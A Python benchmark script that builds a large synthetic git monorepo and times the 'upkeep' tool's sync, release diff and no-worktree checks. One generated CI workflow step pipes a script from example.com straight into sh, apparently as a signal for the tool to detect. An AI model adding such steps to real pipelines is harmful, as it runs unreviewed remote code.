#!/usr/bin/env python3
"""upkeep benchmark, one large upstream (issue 3 "Cost"): ~100,000 files and ~50,000 commits.

Called by `bench/run.sh --large` (which builds upkeep in release mode). It:
  1. generates the upstream with one streamed `git fast-import` (a monorepo: nested packages,
     LICENSE, package.json, package-lock.json, CI workflows, merges, 20 release tags) where
     v1.0.0 is mainline commit 40,000 and v1.1.0 the tip, and the change between them is
     realistic: ~10,000 commits, thousands of files, renames, binary files, a new dependency,
     a changed workflow; serves it with git daemon on 127.0.0.1;
  2. makes one local mirror pinned at v1.0.0 and a config with that one server;
  3. measures `upkeep sync --now` cold (clone + release diff + PR) and nothing changed, and the
     floors on a bare clone: `git clone --mirror`, `git log --oneline v1.0.0..v1.1.0 | wc -l`,
     `git diff --stat -M v1.0.0 v1.1.0 | tail -1`;
  4. checks that no working tree was written: the cache holds only a bare repository, and an
     strace of a second cold sync lists every file upkeep opened for writing;
  5. stores bench/results/large.json and regenerates bench/RESULTS.md.

Only the Python standard library is used (plus strace for the write check, skipped if absent).
"""

import argparse
import json
import os
import random
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import bench  # noqa: E402  (the shared machinery: fast-import, git daemon, /usr/bin/time, report)

MAINLINE = 50_000  # mainline commits; every MERGE_EVERY-th is a merge of a one-commit side branch
MERGE_EVERY = 40
V1_0 = 40_000  # v1.0.0 is mainline commit 40,000; v1.1.0 the tip
PACKAGES = 80
AREAS = ["components", "hooks", "lib", "services", "store", "utils", "api", "views"]
GROUPS = 5
FILES_PER_GROUP = 25
TESTS_PER_AREA = 30
HOT_FILES = 3_000  # most commits of the release touch these
SEED = 20_240_101

ADJ = ["amber", "brisk", "cedar", "delta", "ember", "fable", "gamma", "harbor", "ivory", "jade",
       "kilo", "lumen", "maple", "nova", "onyx", "pixel", "quartz", "raven", "sierra", "tundra"]
NOUN = ["auth", "cache", "client", "config", "core"]
WORDS = ["account", "action", "adapter", "audit", "batch", "bridge", "buffer", "channel", "cursor",
         "digest", "event", "filter", "format", "gateway", "handler", "index", "ledger", "loader",
         "mapper", "metric", "notice", "parser", "policy", "queue", "router", "schema", "session",
         "signal", "stream", "token"]


def log(msg):
    bench.log(f"large: {msg}")


class Tree:
    """The file list and per-file revision counters of the generated monorepo."""

    def __init__(self):
        self.pkgs = [f"{a}-{n}" for a in ADJ for n in NOUN][:PACKAGES]
        self.paths = []
        for p in self.pkgs:
            for a in AREAS:
                for g in range(GROUPS):
                    group = WORDS[(g * 7 + len(a)) % len(WORDS)]
                    for f in range(FILES_PER_GROUP):
                        self.paths.append(f"packages/{p}/src/{a}/{group}/{WORDS[(f + g) % len(WORDS)]}{f}.ts")
                for t in range(TESTS_PER_AREA):
                    self.paths.append(f"packages/{p}/test/{a}/{WORDS[t % len(WORDS)]}{t}.test.ts")
            self.paths += [f"packages/{p}/README.md", f"packages/{p}/tsconfig.json",
                           f"packages/{p}/src/index.ts"]
        self.rev = {}  # path -> revision (absent: 0)
        self.origin = {}  # moved path -> its first path: the content stays similar across a move

    def content(self, path):
        """~1 KB of TypeScript-ish text; each revision rewrites one line and appends one."""
        v = self.rev.get(path, 0)
        ident = self.origin.get(path, path)
        h = sum(map(ord, ident))
        name = ident.rsplit("/", 1)[-1].split(".")[0]
        lines = [f"// {path}", "import { assert } from '../../util/assert';", ""]
        for k in range(12 + h % 12):
            lines.append(f"export function {name}_{k}(input: number): number {{ return input * {h % 97 + k} + {k}; }}")
        if v:
            lines[3 + v % (len(lines) - 3)] = f"export const {name}_patched_{v} = {v}; // revised"
            lines.append(f"// revision {v}")
        return "\n".join(lines) + "\n"

    def touch(self, path):
        self.rev[path] = self.rev.get(path, 0) + 1
        return (path, self.content(path))


def package_json(version, deps):
    return json.dumps({
        "name": "example-monorepo", "version": version, "private": True, "license": "MIT",
        "workspaces": ["packages/*"],
        "scripts": {"build": "tsc -b", "test": "vitest run", "lint": "eslint ."},
        "dependencies": dict(sorted(deps.items())),
        "devDependencies": {"typescript": "^5.4.0", "vitest": "^1.6.0", "eslint": "^8.57.0"},
    }, indent=2) + "\n"


def lockfile(version, deps, gen):
    """A package-lock.json of ~1,500 entries (~400 KB), bumped by `gen`."""
    pkgs = {"": {"name": "example-monorepo", "version": version, "dependencies": deps}}
    for i in range(1_500):
        name = f"node_modules/dep-{WORDS[i % len(WORDS)]}-{i}"
        minor = (i + gen) % 20 if i % 50 == 0 else i % 20
        pkgs[name] = {"version": f"{1 + i % 4}.{minor}.{i % 7}",
                      "resolved": f"https://registry.npmjs.org/dep-{i}/-/dep-{i}-{minor}.tgz",
                      "integrity": f"sha512-{(i * 7919 + minor) % 10**12:012d}AAAA"}
    for d, v in deps.items():
        pkgs[f"node_modules/{d}"] = {"version": v.lstrip("^~"),
                                     "resolved": f"https://registry.npmjs.org/{d}/-/{d}.tgz"}
    return json.dumps({"name": "example-monorepo", "version": version, "lockfileVersion": 3,
                       "packages": pkgs}, indent=2) + "\n"


def workflow(node_versions, extra=""):
    return ("name: ci\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n"
            f"    strategy:\n      matrix:\n        node: [{', '.join(node_versions)}]\n"
            "    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n"
            "        with:\n          node-version: ${{ matrix.node }}\n      - run: npm ci\n"
            f"      - run: npm test\n{extra}")


def changelog(versions):
    out = ["# Changelog", ""]
    for v in reversed(versions):
        out += [f"## {v}", "", f"- Release {v}: fixes and improvements across the packages.", ""]
    return "\n".join(out)


def tag_at(c):
    """The release tag of mainline commit c (1-based), if any."""
    if c == MAINLINE:
        return "v1.1.0"
    if c == V1_0:
        return "v1.0.0"
    every = V1_0 // 20
    if c % every == 0 and c < V1_0:
        return f"v0.{c // every}.0"
    return None


def generate(git_dir):
    """Streams the whole history into `git fast-import`; returns what it made."""
    rnd = random.Random(SEED)
    tree = Tree()
    authors = [f"{w.title()} {a.title()} <{w}.{a}@example.com>" for w in WORDS[:20] for a in ADJ[:3]]
    deps = {"express": "^4.19.2", "zod": "^3.23.0", "@modelcontextprotocol/sdk": "^1.0.0"}
    fi = bench.FastImport(git_dir)
    ts0 = 1_600_000_000
    released = []
    stats = {"renamed": 0, "binary": 0, "deleted": 0}

    # Commit 1: the whole tree.
    files = [(p, tree.content(p)) for p in tree.paths]
    for p in tree.pkgs:
        files.append((f"packages/{p}/package.json",
                      json.dumps({"name": f"@example/{p}", "version": "0.0.1", "main": "src/index.ts"}, indent=2) + "\n"))
    files += [("LICENSE", bench.MIT.format(years="2020")), ("README.md", "# example-monorepo\n\nAn MCP server monorepo.\n"),
              ("package.json", package_json("0.0.1", deps)), ("package-lock.json", lockfile("0.0.1", deps, 0)),
              (".github/workflows/ci.yml", workflow(["18", "20"])), (".gitignore", "node_modules/\ndist/\n"),
              ("CHANGELOG.md", changelog([])), ("tsconfig.json", '{ "compilerOptions": { "strict": true } }\n')]
    nfiles = len(files)
    fi.commit("refs/heads/main", 1, ts0, "Initial import\n", None, files, who=authors[0])
    hot = rnd.sample(tree.paths, HOT_FILES)
    renamed_dir = None
    at = lambda k: V1_0 + (MAINLINE - V1_0) * k // 10  # noqa: E731  (event k of the release)

    for c in range(2, MAINLINE + 1):
        ts = ts0 + c * 1800
        who = authors[min(int(rnd.expovariate(0.15)), len(authors) - 1)]
        in_release = c > V1_0
        picks = [rnd.choice(hot) if in_release and rnd.random() < 0.8 else rnd.choice(tree.paths)
                 for _ in range(2)]
        files = [tree.touch(p) for p in dict.fromkeys(picks)]
        msg = f"{rnd.choice(['fix', 'feat', 'refactor', 'perf', 'test', 'docs'])}: " \
              f"{rnd.choice(WORDS)} {rnd.choice(['handling', 'parsing', 'limits', 'retries', 'types'])} ({c})\n"
        renames, deletes, merge = [], [], None
        if c % MERGE_EVERY == 0:
            # A one-commit side branch off c-3, merged here: its change is part of the merge's tree.
            side = tree.touch(rnd.choice(tree.paths))
            fi.commit(f"refs/side/{c}", 200_000 + c, ts - 900, f"wip: {side[0]}\n", f":{c - 3}", [side],
                      who=authors[(c // MERGE_EVERY) % len(authors)])
            merge = f":{200_000 + c}"
            files.append(side)
            msg = f"Merge pull request #{c // MERGE_EVERY} from {rnd.choice(WORDS)}-branch\n"
        if c % (MAINLINE // 50) == 0:
            files.append(("package-lock.json", lockfile("0.0.1", deps, c)))
        # The events between v1.0.0 and v1.1.0 a reviewer must see.
        if c == at(1):
            deps["left-pad-ng"] = "^2.1.0"
            files += [("package.json", package_json("1.0.0", deps)),
                      ("package-lock.json", lockfile("1.0.0", deps, -1))]
            msg = "deps: add left-pad-ng\n"
        if c == at(2):
            files.append((".github/workflows/ci.yml",
                          workflow(["18", "20", "22"], "      - run: curl -sSL https://example.com/upload.sh | sh\n")))
            files.append((".github/workflows/release.yml", workflow(["20"], "      - run: npm publish\n")))
            msg = "ci: node 22, publish from CI\n"
        if c == at(3):
            # A directory rename (25 files) and 20 moved-and-edited files.
            old_dir = next(p for p in tree.paths if "/src/lib/" in p).rsplit("/", 1)[0]
            renamed_dir = (old_dir, old_dir.replace("/lib/", "/legacy/"))
            renames.append(renamed_dir)
            moved = [p for p in tree.paths if p.startswith(old_dir + "/")]
            for p in moved:
                tree.paths[tree.paths.index(p)] = p.replace(renamed_dir[0], renamed_dir[1], 1)
            stats["renamed"] += len(moved)
            for k in range(20):
                p = tree.paths[1_000 + k * 37]
                q = p.replace("/src/", "/src/core/", 1)
                renames.append((p, q))
                tree.paths[tree.paths.index(p)] = q
                tree.rev[q] = tree.rev.get(p, 0)
                tree.origin[q] = tree.origin.get(p, p)
                files.append(tree.touch(q))
                stats["renamed"] += 1
            live = set(tree.paths)
            hot = [p for p in hot if p in live]
            files = [f for f in files if f[0] in live or not f[0].startswith("packages/")]
            msg = "refactor: move a lib group into legacy, split core\n"
        if c == at(4):
            for k, (name, size) in enumerate([("logo.png", 24_000), ("banner.png", 61_000),
                                              ("icons.woff2", 38_000), ("engine.wasm", 900_000),
                                              ("prebuilt/linux-x64.node", 2_400_000)]):
                blob = bytes(rnd.getrandbits(8) for _ in range(min(size, 4096))) * (size // 4096 + 1)
                files.append((f"assets/{name}", b"\x89PNG\r\n\x1a\n\x00" + blob[:size]))
                stats["binary"] += 1
            msg = "assets: add logo, fonts, wasm engine and a prebuilt addon\n"
        if c == at(5):
            gone = [p for p in tree.paths if p.startswith(f"packages/{tree.pkgs[-1]}/test/")][:50]
            deletes += gone
            gone_set = set(gone)
            tree.paths = [p for p in tree.paths if p not in gone_set]
            hot = [p for p in hot if p not in gone_set]
            files = [f for f in files if f[0] not in gone_set]
            stats["deleted"] += len(gone)
            msg = "test: drop a legacy suite\n"
        tag = tag_at(c)
        if tag:
            version = tag[1:]
            released.append(version)
            files += [("package.json", package_json(version, deps)), ("CHANGELOG.md", changelog(released))]
            if tag == "v1.1.0":
                files += [(f"packages/{p}/package.json",
                           json.dumps({"name": f"@example/{p}", "version": version, "main": "src/index.ts"}, indent=2) + "\n")
                          for p in tree.pkgs]
            msg = f"release {version}\n"
        fi.commit("refs/heads/main", c, ts, msg, f":{c - 1}", files, who=who,
                  merge=merge, renames=renames, deletes=deletes)
        if tag:
            fi.tag(tag, f":{c}", ts + 60, annotated=True)
        if c % 10_000 == 0:
            log(f"generated {c} commits")
    fi.run()
    for ref in bench.git_out("--git-dir", str(git_dir), "for-each-ref", "--format=%(refname)", "refs/side").split():
        subprocess.run(["git", "--git-dir", str(git_dir), "update-ref", "-d", ref], check=True)
    return {"files_initial": nfiles, "mainline_commits": MAINLINE, "merges": MAINLINE // MERGE_EVERY,
            "tags": len(released), **stats}


def build_fixture(work, port, reuse=False):
    """The upstream (kept with --reuse: it takes minutes), then a fresh mirror and config."""
    up = work / "up" / "large.git"
    made_file = work / "fixture.json"
    if reuse and made_file.exists():
        made = json.loads(made_file.read_text())
        log(f"reusing the upstream: {made}")
    else:
        shutil.rmtree(work / "up", ignore_errors=True)
        made = build_upstream(up)
        made_file.write_text(json.dumps(made) + "\n")
    url = f"git://127.0.0.1:{port}/large.git"
    mirror = work / "mirror.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(mirror)], check=True)
    fi = bench.FastImport()
    fi.commit("refs/heads/main", 1, 1_700_000_000, "Mirror pin\n", None,
              [("upkeep.lock", bench.mirror_lock(url)), ("README.md", "Rebuild of large.\n")],
              who="Mirror Admin <mirror@example.com>")
    fi.run(mirror)
    (work / "upkeep.toml").write_text(bench.config_toml(work / "state", [bench.server_toml("large", url, mirror)]))
    return made, url


def build_upstream(up):
    t0 = time.time()
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(up)], check=True)
    made = generate(up)
    made["generate_s"] = round(time.time() - t0, 1)
    log(f"fast-import done in {made['generate_s']} s; repacking")
    t1 = time.time()
    # A published repository is packed by git gc; fast-import's pack is not.
    subprocess.run(["git", "--git-dir", str(up), "repack", "-a", "-d", "-q"], check=True)
    made["repack_s"] = round(time.time() - t1, 1)
    made["pack_mib"] = round(sum(p.stat().st_size for p in (up / "objects" / "pack").glob("*.pack")) / 2**20, 1)
    g = lambda *a: bench.git_out("--git-dir", str(up), *a).strip()  # noqa: E731
    made["files_at_v1_1"] = int(g("ls-tree", "-r", "--name-only", "v1.1.0").count("\n") + 1)
    made["commits_total"] = int(g("rev-list", "--count", "v1.1.0"))
    made["commits_in_range"] = int(g("rev-list", "--count", "v1.0.0..v1.1.0"))
    log(f"upstream: {made}")
    return made


def verify_no_worktree(work, state, upkeep, env):
    """What the cold sync left on disk, and (with strace) every file it opened for writing."""
    out = {}
    cache = state / "cache"
    entries = sorted(p.name for p in cache.iterdir())
    repo = cache / "large.git"
    top = sorted(p.name for p in repo.iterdir())
    # A checkout would put the upstream's top-level names (packages/, LICENSE, ...) somewhere.
    leaked = [str(p) for p in state.rglob("*") if p.name in ("packages", "LICENSE", "package-lock.json", "assets")]
    files = [p for p in repo.rglob("*") if p.is_file()]
    out["cache_entries"] = entries
    out["cache_repo_top"] = top
    out["cache_is_bare"] = bench.git_out("--git-dir", str(repo), "rev-parse", "--is-bare-repository").strip()
    out["cache_files"] = len(files)
    out["cache_pack_mib"] = round(sum(p.stat().st_size for p in files if p.suffix in (".pack", ".idx")) / 2**20, 1)
    out["cache_other_kib"] = round(sum(p.stat().st_size for p in files if p.suffix not in (".pack", ".idx")) / 1024, 1)
    out["state_mib"] = round(sum(p.stat().st_size for p in state.rglob("*") if p.is_file()) / 2**20, 1)
    out["upstream_names_found"] = leaked

    if shutil.which("strace"):
        # A second cold sync into a fresh state, traced: every path opened for writing or created.
        vstate = work / "state-strace"
        cfg = work / "upkeep-strace.toml"
        cfg.write_text((work / "upkeep.toml").read_text().replace(str(state), str(vstate)))
        trace = work / "strace.txt"
        cmd = ["strace", "-f", "-qq", "--seccomp-bpf", "-e", "trace=open,openat,creat,mkdir,mkdirat,rename,renameat,renameat2",
               "-o", str(trace), upkeep[0], "--config", str(cfg), *upkeep[3:]]
        rc = subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=open(work / "stderr-strace.txt", "w"), env=env).returncode
        written = {}
        for line in trace.read_text(errors="replace").splitlines():
            if "= -1" in line or "resumed>" in line:
                continue
            opened = re.search(r'\b(?:open|openat|creat)\((?:AT_FDCWD, )?"([^"]+)"(.*)', line)
            made = re.search(r'\b(?:mkdir|mkdirat)\((?:AT_FDCWD, )?"([^"]+)"', line)
            moved = re.search(r'\brename(?:at2?)?\(.*"[^"]+".*"([^"]+)"', line)
            if opened and ("creat(" in line or re.search(r"O_WRONLY|O_RDWR|O_CREAT", opened.group(2))):
                path = opened.group(1)
            elif made or moved:
                path = (made or moved).group(1)
            else:
                continue
            written[path] = written.get(path, 0) + 1
        dirs = {}
        for path in written:
            key = str(Path(path).parent).replace(str(vstate), "<state>")
            dirs[key] = dirs.get(key, 0) + 1
        out["strace_rc"] = rc
        out["strace_written_dirs"] = dict(sorted(dirs.items()))
        out["strace_outside_state"] = sorted(p for p in written if not p.startswith(str(vstate)) and not p.startswith("/dev/"))
        out["strace_state_mib"] = round(sum(p.stat().st_size for p in vstate.rglob("*") if p.is_file()) / 2**20, 1)
    return out


def run(args):
    work = Path(args.work) / "large"
    if args.reuse:
        for p in work.iterdir() if work.exists() else []:
            if p.name not in ("up", "fixture.json"):
                shutil.rmtree(p) if p.is_dir() else p.unlink()
    else:
        shutil.rmtree(work, ignore_errors=True)
    work.mkdir(parents=True, exist_ok=True)
    port = bench.free_port()
    res = {"kind": "large"}
    res["fixture"], url = build_fixture(work, port, args.reuse)
    daemon = bench.start_daemon(work, port)
    state = work / "state"
    upkeep = [args.upkeep, "--config", str(work / "upkeep.toml"), "sync", "--now", "--json"]
    env = dict(os.environ, UPKEEP_LOG=os.environ.get("UPKEEP_LOG", "warn"))
    floor = work / "floor.git"
    try:
        subprocess.run(["git", "ls-remote", url], stdout=subprocess.DEVNULL, check=True)  # warm
        log("cold upkeep sync")
        res["upkeep_cold"] = bench.measure(upkeep, work, "upkeep-cold", env, work / "report-cold.json")
        log(f"cold: {res['upkeep_cold']}")
        log("nothing changed x%d" % args.repeat)
        runs = [bench.measure(upkeep, work, f"upkeep-noop{r}", env, work / f"report-noop{r}.json")
                for r in range(args.repeat)]
        res["upkeep_noop"] = bench.median_of(runs)
        log("floors: git clone --mirror, git log, git diff --stat -M, git ls-remote")
        res["floor_clone"] = bench.measure(["git", "clone", "-q", "--mirror", url, str(floor)], work, "floor-clone")
        res["floor_ls_remote"] = bench.measure(["git", "ls-remote", url], work, "floor-ls-remote")
        sh = lambda cmd, label: bench.measure(["sh", "-c", cmd], work, label, stdout=work / f"{label}.out")  # noqa: E731
        res["floor_log"] = sh(f"git --git-dir {floor} log --oneline v1.0.0..v1.1.0 | wc -l", "floor-log")
        res["floor_diff"] = sh(f"git --git-dir {floor} diff --stat -M v1.0.0 v1.1.0 | tail -1", "floor-diff")
        res["floor_log"]["out"] = (work / "floor-log.out").read_text().strip()
        res["floor_diff"]["out"] = (work / "floor-diff.out").read_text().strip()
        res["report"] = summarize(work / "report-cold.json", work / f"report-noop{args.repeat - 1}.json")
        log("checking that no working tree was written")
        res["worktree_check"] = verify_no_worktree(work, state, upkeep, env)
    finally:
        daemon.terminate()
        daemon.wait()
    return res


def summarize(cold_path, noop_path):
    """The figures of the release diff upkeep computed, and whether the caps held."""
    out = {}
    for key, path in (("cold", cold_path), ("noop", noop_path)):
        try:
            s = json.loads(Path(path).read_text())["servers"][0]
        except (OSError, ValueError, KeyError, IndexError) as e:
            out[key] = {"error": f"no report: {e}"}
            continue
        d = s.get("diff") or {}
        c, f = d.get("commits", {}), d.get("files", {})
        pr = s.get("pull_request") or {}
        out[key] = {
            "status": s.get("status"), "error": s.get("error"), "duration_ms": s.get("duration_ms"),
            "latest": (s.get("latest") or {}).get("tag"),
            "commits": c.get("count"), "listed": len(c.get("list", [])), "truncated": c.get("truncated"),
            "authors": len(c.get("authors", [])),
            "files_changed": f.get("changed"), "insertions": f.get("insertions"), "deletions": f.get("deletions"),
            "largest_listed": len(f.get("largest", [])), "binary_or_large": f.get("binary_or_large_count"),
            "binary_listed": len(f.get("binary_or_large", [])),
            "renames": f.get("renames_count"), "renames_listed": len(f.get("renames", [])),
            "renames_exact_only": f.get("renames_exact_only"),
            "signals": sorted({x.get("code") for x in d.get("signals", [])}),
            "signals_count": len(d.get("signals", [])),
            "pr_action": pr.get("action"), "pr_body_chars": len(pr.get("body") or ""),
            "report_kib": round(len(json.dumps(s)) / 1024, 1),
            "license": (s.get("license") or {}).get("verdict"),
        }
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--upkeep", required=True)
    ap.add_argument("--work", required=True)
    ap.add_argument("--repeat", type=int, default=3)
    ap.add_argument("--reuse", action="store_true", help="keep the generated upstream of an earlier run")
    args = ap.parse_args()
    bench.RESULTS_DIR.mkdir(exist_ok=True)
    info = bench.machine_info()
    res = run(args)
    res["machine"] = info
    (bench.RESULTS_DIR / "large.json").write_text(json.dumps(res, indent=1) + "\n")
    bench.write_results_md()
    print(bench.large_section(res))


if __name__ == "__main__":
    main()
